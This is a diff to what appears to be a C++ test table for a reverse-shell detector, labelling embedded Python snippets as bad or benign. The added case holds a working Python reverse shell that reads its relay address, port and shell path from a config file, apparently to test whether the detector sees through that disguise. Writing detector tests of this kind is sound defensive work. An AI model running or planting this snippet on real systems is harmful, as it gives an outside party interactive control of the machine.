@@ -78,6 +78,20 @@ subprocess.Popen([prog, "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr
   const Case cases[] = {
       {"a configurable shell joined from a list, on a socket", B, shell, "REVERSE-SHELL"},
       {"the same wiring of cat", M, cat},
+      // (the joined alternatives in their order, no unknown one added: a
+      // prefix put before them keeps the shell's name, round 144's kiln console)
+      {"a nested configurable shell with a prefix, on a socket", B, R"py(import json, os, socket, subprocess
+DEFAULTS = {"assist": {"relay": [203, 0, 113, 47], "port": 4443, "shell": ["bin", "sh"]}}
+cfg = dict(DEFAULTS)
+if os.path.exists("kilnmon.json"):
+    cfg.update(json.load(open("kilnmon.json")))
+a = cfg["assist"]
+conn = socket.create_connection((".".join(str(o) for o in a["relay"]), a["port"]))
+fd = conn.fileno()
+exe = "/" + "/".join(a["shell"])
+subprocess.Popen([exe, "-i"], stdin=fd, stdout=fd, stderr=fd)
+)py",
+       "REVERSE-SHELL"},
       {"a configurable rsync joined from a list", M, R"py(import json, os, subprocess
 cfg = {"tool": ["/usr/bin", "rsync"]}
 if os.path.exists("tools.json"):
